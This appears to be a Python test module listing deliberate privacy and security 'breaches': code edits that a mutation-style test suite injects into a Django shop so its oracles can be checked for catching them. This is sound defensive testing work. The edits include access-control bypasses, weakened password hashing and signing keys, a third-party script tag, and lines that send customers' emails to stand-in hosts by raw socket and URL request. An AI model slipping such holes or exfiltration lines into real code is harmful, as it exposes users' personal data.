"""The breaches that somebody thought of. Each is away from what the oracle looks at."""

from tests.breaches.bills import BILLS
from tests.breaches.checked import CHOICE, COLLECTION, PURPOSES
from tests.breaches.checked_people import CHECKED_PEOPLE
from tests.breaches.incidents import INCIDENTS
from tests.breaches.office_register import OFFICE_REGISTER
from tests.breaches.sockets import SOCKETS
from tests.breaches.types import Breach
from tests.breaches.whole_second import SECOND, TLS

_LOOK = "    def middleware(request: HttpRequest) -> HttpResponse:\n        response = respond(request)\n"

_WHOLE = (
    *INCIDENTS,
    # right.erase
    Breach(
        name="erasure without orders and contacts",
        promise="right.erase",
        oracle="bytes",
        shows="audience_contact.email still holds",
        edits=((
            "rights/actions/erase.py",
            "        for some in found:\n            _erase_rows(some, holds, done)\n        _remember(subject",
            ("        for some in found:\n"
             '            if some.place.label not in {"orders.Order", "audience.Contact"}:\n'
             "                _erase_rows(some, holds, done)\n"
             "        _remember(subject"),
        ),),
    ),
    Breach(
        name="erasure forgets files",
        promise="right.erase",
        oracle="bytes",
        shows="private/audience-exports",
        edits=((
            "rights/actions/erase.py",
            "            if store.subject is subject:",
            '            if store.subject is subject and "exports" not in store.id:',
        ),),
    ),
    # right.access
    Breach(
        name="the copy without orders and contacts",
        promise="right.access",
        oracle="copy",
        shows="the copy lacks orders_order.note",
        edits=((
            "rights/queries.py",
            "        if found:\n            some = ",
            ('        if found and place.label not in {"orders.Order", "audience.Contact"}:\n'
            "            some = "),
        ),),
    ),
    Breach(
        name="the copy without messages",
        promise="right.access",
        oracle="copy",
        shows="the copy lacks rights_rightsrequest.note",
        edits=((
            "rights/queries.py",
            "for name, said in said_of.items() for item in _items(row, name, said)]",
            'for name, said in said_of.items() if name != "note" for item in _items(row, name, said)]',
        ),),
    ),
    # cookie.registry, cookie.third-party, cookie.admin-session, choice.dnt
    Breach(
        name="a two-year cookie on pixel and click",
        promise="choice.dnt",
        oracle="pages",
        shows="/o/… sets tp_seen",
        edits=((
            "campaigns/tracking/handler.py",
            '_ALWAYS = [\n',
            '_ALWAYS = [\n    ("Set-Cookie", "tp_seen=1; Max-Age=63072000; Path=/"),\n',
        ),),
    ),
    Breach(
        name="an outside tag in cart and checkout",
        promise="cookie.third-party",
        oracle="pages",
        shows="^checkout: fetches from tags.example",
        edits=(
            ("checkout/templates/checkout/cart.html", "{% block content %}\n",
             '{% block content %}\n<script src="https://tags.example/t.js"></script>\n'),
            ("checkout/templates/checkout/checkout.html", "{% block content %}\n",
             '{% block content %}\n<script src="https://tags.example/t.js"></script>\n'),
        ),
    ),
    Breach(
        name="a visitor's cookie that nobody declared",
        promise="cookie.registry",
        oracle="pages",
        shows="sets tp_visitor, which nobody signed off",
        edits=((
            "modules/cookies.py",
            "        return response\n\n    return middleware",
            '        response.set_cookie("tp_visitor", "1")\n        return response\n\n    return middleware',
        ),),
    ),
    Breach(
        name="sessions outlive the browser",
        promise="cookie.admin-session",
        oracle="pages",
        shows="sets sessionid for",
        edits=(("config/settings.py", "SESSION_EXPIRE_AT_BROWSER_CLOSE = True",
                "SESSION_EXPIRE_AT_BROWSER_CLOSE = False"),),
    ),
    Breach(
        name="no policy for browsers",
        promise="cookie.third-party",
        oracle="pages",
        shows="has no Content-Security-Policy",
        edits=(("config/settings.py", '    "django.middleware.csp.ContentSecurityPolicyMiddleware",\n', ""),),
    ),
    # collect.usage-log, collect.anonymous-visit
    Breach(
        name="IPv6 addresses kept whole",
        promise="collect.usage-log",
        oracle="networks",
        shows="identity_activity.network holds a visitor's whole address",
        edits=((
            "identity/network.py",
            "    return truncate_ip(address_of(request.META, settings.TRADEPOST.trusted_proxies))",
            "    return address_of(request.META, settings.TRADEPOST.trusted_proxies)",
        ),),
    ),
    Breach(
        name="visits logged whole",
        promise="collect.anonymous-visit",
        oracle="networks",
        shows="logs/web.log holds a visitor's whole address",
        edits=((
            "modules/cookies.py",
            _LOOK,
            _LOOK + '        logger.warning("visit %s", request.META.get("HTTP_X_FORWARDED_FOR"))\n',
        ),),
    ),
    # access.merchant-only, access.need-to-know
    Breach(
        name="a rival's API token reads one order",
        promise="access.merchant-only",
        oracle="routes",
        shows="with a rival's token: 200",
        edits=(
            ("orders/api/orders.py",
             'def get_order(request: ApiRequest, order_id: str) -> Order:\n    row = order_of(request, order_id)\n',
             ('def get_order(request: ApiRequest, order_id: str) -> Order:\n'
             "    row = Order._base_manager.get(pk=Order.pk_of(order_id))\n")),
            ("orders/api/types.py",
             "    return with_everything(Order.objects.filter(pk=row.pk)).get()",
             ("    with scope(merchant=row.merchant):\n"
             "        return with_everything(Order.objects.filter(pk=row.pk)).get()")),
            ("orders/api/types.py", "from ninja import", "from django_scopes import scope\nfrom ninja import"),
        ),
    ),
    Breach(
        name="every role opens every order",
        promise="access.need-to-know",
        oracle="routes",
        shows=r"orders/ \(see_orders\) as campaigns: 200",
        edits=((
            "merchants/access.py",
            "            if not membership.may(permission):",
            '            if not membership.may(permission) and permission.name != "see_orders":',
        ),),
    ),
    Breach(
        name="anybody's shop",
        promise="access.merchant-only",
        oracle="routes",
        shows="as a rival: 200",
        alone=True,
        edits=(("merchants/access.py", "        .filter(user=user, merchant__handle=handle)",
                "        .filter(merchant__handle=handle)"),),
    ),
    Breach(
        name="scopes of tokens are not asked for",
        promise="access.need-to-know",
        oracle="routes",
        shows="with a token for",
        alone=True,  # the tokens delete what the others look for
        edits=(
            ("merchants/rest/auth.py", "if self.scope and not found.allows(self.scope):", "if not found:"),
            ("merchants/rest/auth.py", "if not request.token.allows(needed):", "if not request.token:"),
        ),
    ),
    # choice.unsubscribe-everywhere
    Breach(
        name="unsubscribing that answers and does nothing",
        promise="choice.unsubscribe-everywhere",
        oracle="mail",
        shows="was written to again",
        edits=((
            "campaigns/views/leaving.py",
            '        leave(campaign_id=campaign_id, contact_id=contact_id, how="one-click")\n',
            "",
        ),),
    ),
    Breach(
        name="letters without one click",
        promise="choice.unsubscribe-everywhere",
        oracle="mail",
        shows="no List-Unsubscribe-Post",
        edits=((
            "delivery/outgoing/mime.py",
            'b"List-Unsubscribe-Post: List-Unsubscribe=One-Click\\r\\n" % ',
            'b"" % ',
        ),),
        alone=True,
    ),
    # secure.signed, secure.passwords
    Breach(
        name="a short key signs",
        promise="secure.signed",
        oracle="facts",
        shows="a DKIM signature has 128 bytes",
        edits=(("delivery/outgoing/dkim.py", "generate_private_key(65537, 2048)",
                "generate_private_key(65537, 1024)"),),
    ),
    Breach(
        name="cheap passwords",
        promise="secure.passwords",
        oracle="facts",
        shows="a password is stored as pbkdf2",
        edits=(("config/settings.py", "django.contrib.auth.hashers.Argon2PasswordHasher",
                "django.contrib.auth.hashers.PBKDF2PasswordHasher"),),
    ),
    # secure.verify-identity, keep.*
    Breach(
        name="a portal link that lives ten years",
        promise="secure.verify-identity",
        oracle="clock",
        shows="a portal link opens after",
        edits=(("rights/actions/portal.py", "LINK_LIFE = timedelta(minutes=30)",
                "LINK_LIFE = timedelta(days=3650)"),),
    ),
    Breach(
        name="exports that survive closing an account",
        promise="keep.closure",
        oracle="closing",
        shows="exports",
        edits=(
            ("orders/room.py", "        closing.hooks.adding(remove_exports_of),\n", ""),
            ("audience/room.py", "        closing.hooks.adding(personal_files.remove_files_of),\n", ""),
            ("backoffice/room.py", "        closing.hooks.adding(everything.remove_files_of),\n", ""),
        ),
    ),
    # share.processors
    Breach(
        name="orders told to a stranger's server by a raw socket",
        promise="share.processors",
        oracle="wire",
        shows="203.0.113.9",
        edits=((
            "checkout/actions/place_order.py",
            "    with transaction.atomic():\n        cart = (",
            ("    import contextlib, socket\n"
            "    with contextlib.suppress(OSError):\n"
            '        socket.create_connection(("203.0.113.9", 443), 2).send(submission.email.encode())\n'
            "    with transaction.atomic():\n        cart = ("),
        ),),
    ),
    Breach(
        name="a library that tells who confirmed",
        promise="share.processors",
        oracle="wire",
        shows="counter.example",
        edits=((
            "audience/actions/confirm.py",
            "    with transaction.atomic():\n        row = PendingSubscription",
            ("    import contextlib, urllib.request\n"
            "    with contextlib.suppress(OSError):\n"
            '        urllib.request.urlopen(f"http://counter.example/?who={pending.email}", timeout=2)\n'
            "    with transaction.atomic():\n        row = PendingSubscription"),
        ),),
    ),
)  # fmt: skip
WRITTEN = (
    *_WHOLE, *SECOND, *SOCKETS.values(), *COLLECTION, *PURPOSES, *CHOICE, *CHECKED_PEOPLE, *TLS,
    *OFFICE_REGISTER, *BILLS,
)  # fmt: skip
